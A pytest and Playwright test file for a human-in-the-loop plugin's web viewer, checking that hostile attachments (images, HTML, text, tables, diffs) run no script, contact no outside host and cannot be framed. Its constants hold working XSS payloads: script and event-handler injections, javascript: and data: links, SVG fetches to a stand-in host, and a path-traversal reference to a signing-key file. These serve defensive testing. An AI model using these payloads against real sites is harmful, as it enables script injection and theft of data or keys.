"""Hostile attachments in a real browser: nothing in them runs, asks another host, or takes the page over.

Holds P8 for what is shown: on the page, and when its address is opened by itself.
"""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pandas as pd
import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from flyteplugins.hitl import show as shown
from flyteplugins.hitl._records import Request
from tests.support.house import House, run
from tests.support.inspection import inspect
from tests.support.questions import asked, question
from tests.support.reader import show
from tests.support.shown import kept, png, showing

pytestmark = pytest.mark.slow

RUN = "window.hacked = 1; top.hacked = 1; alert(1); fetch('http://192.0.2.1/')"
HOSTILE = f"""<script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}"></svg>
<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>
<a href="javascript:window.hacked = 1">a</a> [link](javascript:window.hacked=1) <javascript:window.hacked=1>
[link](data:text/html,<script>alert(1)</script>) ![x](http://192.0.2.1/track.png) ![y](javascript:alert(1))
![z](attachment:../../keys/signing.json) <style>body {{ display: none }}</style>
</pre></td></table></details></textarea></title></style><script>window.hacked = 1</script>{{{{ 7 * 7 }}}}{{% raw %}}
" onmouseover="window.hacked = 1" autofocus onfocus="window.hacked = 1" x=\""""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"
 onload="{RUN}"><script>{RUN}</script><script href="http://192.0.2.1/x.js"/>
<style>@import url(http://192.0.2.1/x.css);</style><rect width="300" height="200" fill="teal"/>
<image href="http://192.0.2.1/track.png" width="9" height="9"/><use href="http://192.0.2.1/x.svg#a"/>
<a href="javascript:{RUN}"><text x="20" y="150">click</text></a>
<animate attributeName="href" values="javascript:alert(1)" begin="0s"/><set attributeName="onmouseover" to="{RUN}"/>
<foreignObject width="300" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><form action="http://192.0.2.1/">
<input type="submit" value="Send"/></form><iframe src="javascript:{RUN}"/><meta http-equiv="refresh"
content="0;url=http://192.0.2.1/"/></body></foreignObject></svg>""".replace("&", "&amp;").encode()
HTML = f"<!doctype html><html><body onload='window.hacked = 1'>{HOSTILE}<h1>Sign in again</h1></body></html>"


@pytest.fixture
def elsewhere() -> Iterator[list[str]]:
    """Another host, which is there; and all that it was asked for."""
    asked_for: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked_for.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        asked_for.append(f"http://127.0.0.1:{server.server_port}/")
        yield asked_for
        server.shutdown()


@pytest.fixture
def bare(browser: Browser, elsewhere: list[str]) -> Iterator[Page]:
    """A page that may say in its console what it refused to do, which is what the tests here are after."""
    context = browser.new_context()
    dialogs: list[str] = []

    def noted(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    context.on("dialog", noted)
    yield context.new_page()
    context.close()
    assert dialogs == []
    assert elsewhere[1:] == []


def ask(house: House, *things: Any, prompt: str = "Is it right?") -> Request:
    content = showing(question(bool, prompt=prompt), run(kept(house.service, *things)))
    return run(asked(house.service, content))


def address(house: House, request: Request, number: int = 0) -> str:
    query = house.link(request).url.partition("?")[2]
    return f"{house.endpoint}/attachment/{request.request_id}/{number}?{query}"


def is_unharmed(page: Page) -> None:
    assert page.evaluate("() => window.hacked") is None
    sources = page.locator("script").evaluate_all("all => all.map(each => new URL(each.src).pathname)")
    assert set(sources) <= {"/static/app.js", "/static/fields.js", "/static/sort.js"}
    assert page.locator("main :is(iframe, object, embed, style, meta, svg, base)").count() == 0
    assert page.locator("a[href^='javascript' i], a[href^='data' i]").count() == 0
    listeners = (
        "() => [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => /^on/.test(n))"
    )
    assert page.evaluate(listeners) == []
    assert page.locator("form").count() == 1
    expect(page.locator("main")).to_be_visible()


def things(tmp_path: Path) -> list[Any]:
    (tmp_path / "page.html").write_text(HTML)
    return [
        shown.Image(SVG, title=HOSTILE[:200], alt=HOSTILE[:900]),
        tmp_path / "page.html",
        HOSTILE,
        shown.Text(HOSTILE, title="Text"),
        pd.DataFrame({HOSTILE: [HOSTILE, None], "n": [1, 2]}),
        {HOSTILE: [HOSTILE, {HOSTILE: {}}]},
        shown.Diff(HOSTILE, HOSTILE + " more"),
        shown.Diff({HOSTILE: 1}, {HOSTILE: 2}),
        shown.File(HTML.encode(), name="page.html"),
    ]


def test_hostile_things_on_the_page_run_nothing(house: House, page: Page, tmp_path: Path) -> None:
    show(house, page, ask(house, *things(tmp_path), prompt=HOSTILE))
    picture = page.locator(".shown-picture img")
    picture.scroll_into_view_if_needed()
    expect(picture).to_have_js_property("complete", True)
    assert picture.evaluate("picture => picture.naturalWidth") == 300

    for unfolded in page.locator("details summary").all():
        if unfolded.is_visible():
            unfolded.click()
    for button in page.locator("thead button").all():
        button.click()
    for hovered in page.locator(".shown").all():
        hovered.hover()

    is_unharmed(page)
    inspect(page, "hostile-shown")


def test_hostile_things_on_the_page_of_a_closed_question_run_nothing(house: House, page: Page, tmp_path: Path) -> None:
    request = ask(house, *things(tmp_path), prompt=HOSTILE)
    house.answer(request, "true")
    show(house, page, request)

    assert page.evaluate("() => window.hacked") is None
    assert page.locator("main :is(iframe, object, embed, style, meta, svg, form)").count() == 0


def test_the_other_host_would_notice(bare: Page, elsewhere: list[str]) -> None:
    """Shows that the tests below would see it."""
    bare.evaluate("address => fetch(address, { mode: 'no-cors' })", elsewhere[0] + "seen")

    assert elsewhere.pop() == "/seen"


def test_an_svg_opened_by_itself_is_a_picture_and_runs_nothing(house: House, bare: Page, elsewhere: list[str]) -> None:
    page = bare
    svg = SVG.replace(b"http://192.0.2.1/", elsewhere[0].encode())
    reply = page.goto(address(house, ask(house, shown.Image(svg))))
    assert reply is not None
    assert reply.status == 200
    expect(page.locator("rect")).to_be_visible()

    page.mouse.move(150, 100)
    page.locator("text").click()
    page.wait_for_load_state("networkidle")

    assert page.evaluate("() => window.hacked") is None
    assert page.evaluate("() => self.origin") == "null"
    assert page.url.startswith(f"{house.endpoint}/attachment/")


def test_an_svg_opened_from_its_page_is_a_picture_that_cannot_reach_the_page(house: House, bare: Page) -> None:
    svg = SVG.replace(b"window.hacked", b"opener.hacked").replace(b"192.0.2.1", b"127.0.0.1:9")
    show(house, bare, ask(house, shown.Image(svg)))

    with bare.expect_popup() as waiting:
        bare.locator(".shown-picture a").click()

    expect(waiting.value.locator("rect")).to_be_visible()
    assert waiting.value.evaluate("() => [self.origin, opener]") == ["null", None]
    assert bare.evaluate("() => window.hacked") is None


def test_html_opened_by_itself_is_downloaded_and_runs_nothing(house: House, bare: Page) -> None:
    page = bare
    request = ask(house, shown.File(HTML.encode(), name="page.html"), shown.Text(HTML, name="other.html"))
    for number in (0, 1):
        page.goto(house.endpoint)
        with page.expect_download() as waiting:
            page.evaluate("address => { location.href = address }", address(house, request, number))

        assert waiting.value.suggested_filename == ("page.html", "other.html")[number]
        assert page.url == f"{house.endpoint}/"
        assert page.evaluate("() => window.hacked") is None


def test_no_page_of_the_app_takes_an_attachment_for_its_script_or_style(house: House, bare: Page) -> None:
    """Were markup to get through after all, the policy and the type still refuse what it points to."""
    page = bare
    request = ask(house, shown.Text("window.hacked = 1"), shown.Text("main { display: none }"), shown.Image(SVG))
    show(house, page, request)

    loaded = page.evaluate(
        """async addresses => Promise.all(addresses.flatMap(
            address => ["script", "link", "iframe", "object", "embed"].map(tag => new Promise(done => {
                const element = document.createElement(tag);
                if (tag === "link") element.rel = "stylesheet";
                element[{ link: "href", object: "data" }[tag] ?? "src"] = address;
                element.onload = () => done(tag === "iframe" ? element.contentDocument?.body?.childElementCount : tag);
                element.onerror = () => done("refused");
                setTimeout(() => done("nothing"), 1500);
                document.body.append(element);
            }))))""",
        [address(house, request, number) for number in range(3)],
    )

    assert page.evaluate("() => window.hacked") is None
    assert not {"script", "link", "object", "embed"} & set(loaded)
    expect(page.locator("main")).to_be_visible()


def test_a_picture_that_claims_to_be_huge_is_offered_but_not_drawn(house: House, page: Page) -> None:
    show(
        house, page, ask(house, shown.Image(png(claimed=(60_000, 60_000)), name="bomb"), prompt="![b](attachment:bomb)")
    )

    assert page.locator("main img").count() == 0
    expect(page.get_by_text("It has 60,000 × 60,000 pixels")).to_be_visible()
    expect(page.get_by_role("link", name="Download bomb.png")).to_be_visible()


def test_no_attachment_can_be_put_into_a_frame(house: House, bare: Page) -> None:
    page = bare
    request = ask(house, shown.Image(SVG))
    reply = page.request.get(address(house, request))

    assert "frame-ancestors 'none'" in reply.headers["content-security-policy"]
    assert reply.headers["x-frame-options"] == "DENY"
